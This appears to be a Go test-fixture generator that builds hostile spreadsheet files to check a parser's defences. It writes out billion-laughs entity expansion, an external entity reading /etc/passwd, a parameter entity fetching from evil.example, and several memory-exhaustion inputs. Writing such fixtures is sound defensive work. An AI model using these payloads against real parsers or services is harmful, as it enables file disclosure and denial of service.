package sheet

import "strings"

// hostileXML are files whose harm is in the XML, or in the parts that cells
// point to.
func hostileXML() []maker {
	const root = "<worksheet"
	return []maker{
		asZip("xml-billion-laughs.xlsx", func() parts { return harmless().with("xl/sharedStrings.xml", laughs()) }),
		asZip("xml-external-entity.xlsx", func() parts {
			return harmless().replace(sheet1Part, root, `<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>`+root).replace(sheet1Part, "王建", "&x;")
		}),
		asZip("xml-parameter-entity.xlsx", func() parts {
			return harmless().replace(wbPart, "<workbook", `<!DOCTYPE w SYSTEM "http://evil.example/w.dtd" [<!ENTITY % a SYSTEM "http://evil.example/a"> %a;]><workbook`)
		}),
		asZip("xml-deep.xlsx", func() parts {
			return harmless().replace(sheet1Part, "</sheetData>", strings.Repeat("<row>", 1_000_000))
		}),
		asZip("xml-endless-tag.xlsx", func() parts {
			return harmless().replace(sheet1Part, root, root+strings.Repeat(` a="b"`, 2_000_000))
		}),
		asZip("xml-endless-comment.xlsx", func() parts { return harmless().replace(sheet1Part, "<sheetData>", "<!--"+strings.Repeat("-", 30<<20)) }),
		asZip("xml-wide-tags.xlsx", func() parts {
			return harmless().replace(sheet1Part, "</sheetData>", strings.Repeat(`<row><c r="A9"`+strings.Repeat(" s=\"1\"", 100_000)+"/></row>", 100)+"</sheetData>")
		}),
		asZip("xml-references.xlsx", func() parts {
			return harmless().replace(sheet1Part, "王建", strings.Repeat("&#x738B;", 100_000))
		}),
		asZip("strings-endless.xlsx", func() parts { return harmless().strings(strings.Repeat("<si/>", maxStrings+1)) }),
		asZip("strings-long.xlsx", func() parts {
			return harmless().strings(strings.Repeat("<si><t>"+strings.Repeat("x", maxCellRunes)+"</t></si>", maxStringText/maxCellRunes+1))
		}),
		asZip("strings-none.xlsx", func() parts { return harmless().replace(sheet1Part, `t="str"><v>王建`, `t="s"><v>4294967295`) }),
		asZip("styles-endless.xlsx", func() parts {
			return harmless().styles(`<numFmts count="4294967295">` + strings.Repeat(`<numFmt numFmtId="1" formatCode="yyyy"/>`, 200_000) + `</numFmts>` +
				`<cellXfs count="4294967295">` + strings.Repeat(`<xf numFmtId="14"/>`, 2_000_000) + `</cellXfs>`)
		}),
	}
}

// laughs is the entity that would be three thousand million characters.
func laughs() string {
	out := `<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "哈">`
	for c := 'b'; c <= 'k'; c++ {
		out += "<!ENTITY " + string(c) + ` "` + strings.Repeat("&"+string(c-1)+";", 10) + `">`
	}
	return out + `]><sst><si><t>&k;</t></si></sst>`
}
